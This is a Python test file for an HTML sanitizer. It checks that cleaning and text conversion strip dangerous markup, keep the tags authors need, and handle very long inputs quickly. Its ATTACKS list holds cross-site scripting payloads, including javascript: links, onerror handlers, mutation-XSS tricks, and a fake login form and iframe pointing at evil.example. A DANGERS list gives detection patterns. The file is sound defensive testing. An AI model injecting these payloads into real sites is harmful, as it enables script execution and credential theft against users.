"""What HTML may stay, and its plain text."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts.text import storable_text
from components.html import (
    as_typed,
    clean_feedback_html,
    clean_rich_html,
    feedback_to_html,
    html_to_text,
    sent_to_html,
    text_to_html,
    trusted,
    typed_to_html,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<p style="position:fixed;background:url(//evil.example)">x</p>',
    "<style>body{display:none}</style>",
    '<iframe src="//evil.example"></iframe>',
    '<form action="//evil.example"><input name=password><button>Sign in</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example">',
    '<link rel=stylesheet href="//evil.example">',
    '<object data="//evil.example"></object>',
    '<video src=x onerror="alert(1)"></video>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<p id="main" class="alert" hx-get="/configure/" data-x="1">x</p>',
]
DANGERS = [
    "<script", "<svg", "<img", "<iframe", "<form", "<input", "<style", "<meta", "<base", "<link",
    "<object", "<video", "<math", "javascript:", "vbscript:", "href=\"data:", "onerror=",
    "onload=", "onclick=", "style=", "hx-get", "id=", "class=",
]  # fmt: skip

plain = st.text(
    st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t<>&\"' "), max_size=60
)


def visible(text):
    """The characters of a text that a reader sees."""
    return [character for character in text if not character.isspace()]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("clean", [clean_rich_html, clean_feedback_html, trusted])
def test_clean_takes_away_what_could_run_load_or_disguise(clean, attack):
    cleaned = clean(f"<p>before</p>{attack}<p>after</p>").lower()
    assert not [danger for danger in DANGERS if danger in cleaned]
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("convert", [typed_to_html, feedback_to_html])
def test_typed_attack_is_shown_or_cleaned(convert, attack):
    converted = convert(attack)
    assert clean_rich_html(converted) == converted
    assert not [danger for danger in DANGERS if f"<{danger.lstrip('<')}" in converted.lower()]


@pytest.mark.parametrize(
    "source",
    [
        "<h2>Title</h2><p>Some <strong>bold</strong> and <em>soft</em> words.</p>",
        "<ul><li>one</li><li>two</li></ul>",
        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
        "<pre><code>if a &lt; b:\n    pass</code></pre>",
        "x<sup>2</sup> and H<sub>2</sub>O",
        "<p>a<br>b</p><hr><blockquote>said</blockquote>",
    ],
)
def test_clean_rich_keeps_what_authors_need(source):
    assert clean_rich_html(source) == source


@pytest.mark.parametrize("scheme", ["https:", "http:", "mailto:"])
def test_clean_rich_link_tells_the_other_page_nothing(scheme):
    cleaned = clean_rich_html(f'<a href="{scheme}//a.example" target="_blank">x</a>')
    assert cleaned == (f'<a href="{scheme}//a.example" rel="noopener noreferrer nofollow">x</a>')


def test_clean_feedback_keeps_the_tags_of_the_contract_only():
    source = '<p>a <b>b</b> <a href="https://a.example">c</a></p><h1>d</h1><table></table>'
    assert clean_feedback_html(source) == "<p>a <b>b</b> c</p>d"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        (" \n ", ""),
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("if (a<b) return;", "<p>if (a&lt;b) return;</p>"),
        ("<stdio.h>", "<p>&lt;stdio.h&gt;</p>"),
        ("<script>alert(1)</script>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
        ("&nbsp;", "<p>&amp;nbsp;</p>"),
        ("one\ntwo", "<p>one<br>two</p>"),
        ("one\r\n\r\ntwo", "<p>one</p>\n\n<p>two</p>"),
    ],
)
def test_typed_plain_text_keeps_every_character_visible(text, html):
    assert typed_to_html(text) == html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("<p>one</p>", "<p>one</p>"),
        ("<STRONG>one</STRONG>", "<strong>one</strong>"),
        ("one<br/>two", "one<br>two"),
        ("<b>one</b><script>x</script>", "<b>one</b>"),
    ],
)
def test_typed_html_is_html(text, html):
    assert typed_to_html(text) == html


def test_feedback_typed_as_text_gets_paragraphs():
    assert feedback_to_html("Good.\n\nGo on.") == "<p>Good.</p>\n\n<p>Go on.</p>"


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<p>one</p>\n\n<p>two</p>", "one\n\ntwo"),
        ("<p>one\n  two</p>", "one two"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("<ul><li>one</li><li>two</li></ul><p>three</p>", "one\ntwo\n\nthree"),
        ("<h1>Title</h1><p>text</p>", "Title\n\ntext"),
        ("<p>a &lt; b &amp;&amp; c</p>", "a < b && c"),
        ("<p>&amp;nbsp;</p>", "&nbsp;"),
        ("<p>some <b>bold</b>, <i>soft</i></p>", "some bold, soft"),
        ("<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>", "1\t2"),
        ("<pre>if a:\n    b\n</pre><p>c</p>", "if a:\n    b\n\nc"),
        ("<p>a</p><hr><p>b</p>", "a\n\nb"),
        ("<p>x</p><p></p><p></p><p>y</p>", "x\n\ny"),
    ],
)
def test_html_to_text_keeps_words_lines_and_paragraphs(html, text):
    assert html_to_text(html) == text


@pytest.mark.parametrize(
    "text",
    [
        "one line",
        "one\ntwo",
        "one\n\ntwo",
        "  indented\n    code",
        "trailing  \nspaces\t\nin lines",
        "a\n \nblank line with a space",
        "a < b, <stdio.h>, &nbsp; and &amp;",
        "quotes \" and '",
        "a\u00a0b",
    ],
)
def test_text_typed_plain_is_edited_plain(text):
    shown = as_typed(text_to_html(text))
    assert [line.rstrip() for line in shown.split("\n")] == [
        line.rstrip() for line in text.strip().split("\n")
    ]


@pytest.mark.parametrize("html", ["<ul>\n<li>one</li>\n</ul>", "a <b>bold</b> word", "<p>x</p>y"])
def test_html_is_edited_as_html(html):
    assert as_typed(html) == html


@given(plain)
def test_text_survives_storing_and_editing(text):
    stored = text_to_html(text)
    assert clean_rich_html(stored) == stored
    assert visible(html_to_text(stored)) == visible(text)
    assert visible(as_typed(stored)) == visible(text)
    assert text_to_html(as_typed(stored)) == stored


@given(st.text(max_size=80) | st.lists(st.sampled_from(ATTACKS), max_size=3).map("".join))
def test_clean_is_idempotent(source):
    text = storable_text(source)
    for clean in (clean_rich_html, clean_feedback_html):
        assert clean(clean(text)) == clean(text)


@pytest.mark.parametrize(
    "text",
    [
        "<p>a" + " " * 300_000 + "b</p>",
        "<p>a" + "\n" * 300_000 + "b</p>",
        "<p>a" + " \t" * 150_000 + "\n" + " " * 150_000 + "</p>",
        "<a" + " " * 300_000 + "x",
        "<a " * 100_000,
        "a<b and " * 50_000 + "b>c",
        "&" * 300_000,
    ],
    ids=range(7),
)
def test_long_run_of_one_character_takes_no_time_to_speak_of(text):
    """Hours, if a pattern looked at each run from each of its places."""
    for convert in (sent_to_html, typed_to_html, feedback_to_html, html_to_text):
        convert(text)


@pytest.mark.parametrize("text", ["a<b and b>c", "x <i and j> y", "if a<b and c>d"])
def test_comparison_that_looks_like_a_tag_is_plain_text(text):
    assert html_to_text(sent_to_html(text)) == text
    assert html_to_text(typed_to_html(text)) == text


def test_text_behind_a_table_stays_behind_it():
    source = "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table><p>after</p>"
    assert html_to_text(source) == "1\t2\n\nafter"
